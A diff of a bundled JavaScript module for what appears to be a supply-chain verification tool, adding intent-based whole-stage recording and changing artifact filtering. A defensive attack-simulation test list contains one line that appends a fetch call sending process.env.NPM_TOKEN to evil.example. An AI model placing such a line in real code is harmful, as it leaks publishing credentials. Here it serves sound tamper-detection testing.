@@ -1,9 +1,9 @@
 import { r as DEFAULT_EXCLUDES, t as Recorder } from "./recording-record-artifacts.mjs";
 import { i as print, r as pathFrom } from "./cli-console.mjs";
 import { n as FilesError } from "./files-codes.mjs";
-import { M as quoteUntrusted, S as count, j as escapeUntrusted } from "./base.mjs";
+import { R as escapeUntrusted, k as count, z as quoteUntrusted } from "./base.mjs";
 import { t as DirectoryLinkStore } from "./gate-directory-link-store.mjs";
-import { N as splitWords, S as keyIdOf, _ as verifySupplyChain, a as encodeLayout, ct as encodeRunBinding, gn as jsonObject, l as signMetadata, x as pemKeyIds, xt as linkFileName } from "./intoto.mjs";
+import { Ct as encodeRunBinding, It as linkFileName, R as splitWords, Vn as intentsOf, a as encodeLayout, b as keyIdOf, h as verifySupplyChain, jn as jsonObject, l as signMetadata, y as pemKeyIds } from "./intoto.mjs";
 import { t as failureLines } from "./reporting-verdict-text.mjs";
 import { t as NODE_PORTS } from "./signing-node-ports.mjs";
 import { n as readPublicKeyFile, r as writeKeyPair } from "./files-write-new-file.mjs";
@@ -12,7 +12,9 @@ import { t as EXIT } from "./cli-command.mjs";
 import { t as withFilesAtHand } from "./cli-files-at-hand.mjs";
 import { n as CliError } from "./cli-codes.mjs";
 import { n as loadPrivateKey, t as PASSPHRASE_VARIABLE } from "./signing-key-signer.mjs";
+import { n as recordingPlan } from "./stages-recording-plan.mjs";
 import { n as writeLink } from "./stages-write-link.mjs";
+import { n as endWholeStep, t as beginWholeStep } from "./cli-step-halves.mjs";
 import { t as buildLayout } from "./layouts-build-layout.mjs";
 import { t as generateKey } from "./signing-generate-key.mjs";
 import { r as runCommand, t as byproductsOf } from "./commands-run-command.mjs";
@@ -52,7 +54,7 @@ const YEAR = 316224e5;
 const ATTACKS = [
 	{
 		name: "a source file is changed between checkout and build",
-		expected: "RULE_ARTIFACT_DISALLOWED",
+		expected: "TAKES_DIFFERS",
 		tamper: async ({ pipeline, checkedOut, run }, { links }) => {
 			appendFileSync(join(checkedOut, "src/index.mjs"), "\nfetch(\"https://evil.example/?\" + process.env.NPM_TOKEN)\n");
 			await pipeline.stage("build", [
@@ -300,6 +302,7 @@ var Pipeline = class {
 	products;
 	#request;
 	#keys;
+	#intents;
 	/** Makes fresh keys, and builds and signs the layout. @throws LayoutSourceError, FILE_ codes */
 	constructor(request) {
 		this.#request = request;
@@ -316,6 +319,7 @@ var Pipeline = class {
 		]) mkdirSync(directory, { recursive: true });
 		this.#keys = new PipelineKeys(request);
 		this.#keys.write(keys);
+		this.#intents = intentsOf(this.layout);
 		this.writeLayout(this.layoutPath);
 	}
 	get layout() {
@@ -333,8 +337,8 @@ var Pipeline = class {
 	}
 	/** Clones the repository; the link's products are all files of the commit. */
 	async checkout() {
-		const { environment, repository } = this.#request;
-		const commit = await headOf(repository, environment);
+		const { console, repository } = this.#request;
+		const commit = await headOf(repository, console.environment);
 		const run = {
 			id: `local-${randomBytes(6).toString("hex")}`,
 			commit
@@ -355,7 +359,14 @@ var Pipeline = class {
 	}
 	/** Runs a stage in a workspace and writes its link. */
 	async stage(name, command, run, workspace = this.workspace, links = this.links) {
-		const { recorder, environment } = this.#request;
+		const { recorder, console } = this.#request;
+		const { environment } = console;
+		const plan = this.#intents === void 0 ? void 0 : recordingPlan(this.#intents, name);
+		if (plan !== void 0) return this.#wholeStage({
+			step: name,
+			plan,
+			base: workspace
+		}, command, run, links);
 		const settings = {
 			...defaultSettings(workspace),
 			exclude: DEFAULT_EXCLUDES
@@ -393,6 +404,29 @@ var Pipeline = class {
 		this.sign(link, name, links);
 		return link;
 	}
+	/** A stage of a step in intents, which is recorded whole, as `run` does it. */
+	async #wholeStage({ step, plan, base }, command, run, links) {
+		const { recorder, console, layoutSource } = this.#request;
+		const whole = {
+			step,
+			planned: {
+				plan,
+				from: layoutSource,
+				layout: ""
+			},
+			base,
+			console,
+			onProgress: () => void 0
+		};
+		const begun = await beginWholeStep(recorder, whole, run);
+		const byproducts = await runStageCommand(command, base, console.environment);
+		const link = await endWholeStep(recorder, begun, whole, {
+			command: [...command],
+			byproducts
+		});
+		this.sign(link, step, links);
+		return link;
+	}
 	async #packages(workspace) {
 		const places = {
 			workspace,
@@ -416,9 +450,9 @@ var Pipeline = class {
 			}
 		});
 	}
-	/** Copies the products of the last stage to where they are kept. */
-	keepProducts(link) {
-		return [...link.products.paths()].map((path) => {
+	/** Copies what the last stage made to where it is kept. */
+	keepProducts({ materials, products }) {
+		return [...products].filter(([path, digests]) => materials.get(path) !== digests).map(([path]) => {
 			const target = join(this.products, path);
 			mkdirSync(dirname(target), { recursive: true });
 			copyFileSync(join(this.workspace, path), target);
@@ -430,10 +464,11 @@ var Pipeline = class {
 function newIn(before, after) {
 	const known = new Map(before.artifacts);
 	const artifacts = after.artifacts.filter(([name, digest]) => known.get(name) !== digest);
+	const notes = new Map([...after.notes].filter(([name]) => artifacts.some(([recorded]) => recorded === name)));
 	return {
+		...after,
 		artifacts,
-		notes: new Map([...after.notes].filter(([name]) => artifacts.some(([recorded]) => recorded === name))),
-		apart: after.apart
+		notes
 	};
 }
 /** The commit of a repository. @throws COMMAND_FAILED */
@@ -454,7 +489,7 @@ async function pipelineRequest({ parsed, console, work, recorder }) {
 	mkdirSync(directory);
 	const common = {
 		directory,
-		environment: console.environment,
+		console,
 		recorder,
 		now: console.now()
 	};
